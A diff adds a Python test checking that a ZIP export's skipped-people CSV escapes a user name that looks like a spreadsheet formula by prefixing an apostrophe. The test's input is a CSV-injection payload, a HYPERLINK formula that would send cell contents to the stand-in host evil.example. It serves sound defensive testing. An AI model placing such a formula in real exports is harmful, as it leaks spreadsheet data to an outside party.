@@ -98,6 +98,17 @@ def test_zip_has_one_pdf_per_person_and_the_skipped_csv(tree, people):
     ]
 
 
+def test_the_skipped_csv_neutralises_a_name_that_looks_like_a_formula(tree, people):
+    _, _, idle = people
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    type(idle.user).objects.filter(pk=idle.user_id).update(name=formula)
+    job = run(start(tree.admins["pds"], person_ids=[idle.pk], output="zip"))
+
+    archive = zipfile.ZipFile(io.BytesIO(job.result_file.read()))
+    rows = list(csv.reader(io.StringIO(archive.read("未生成名单.csv").decode("utf-8-sig"))))
+    assert rows[1][0] == "'" + formula  # a spreadsheet shows it as text, never runs it
+
+
 def test_an_issue_already_rendered_is_reused(tree, people):
     first, second, _ = people
     issue, _ = certificate_request(
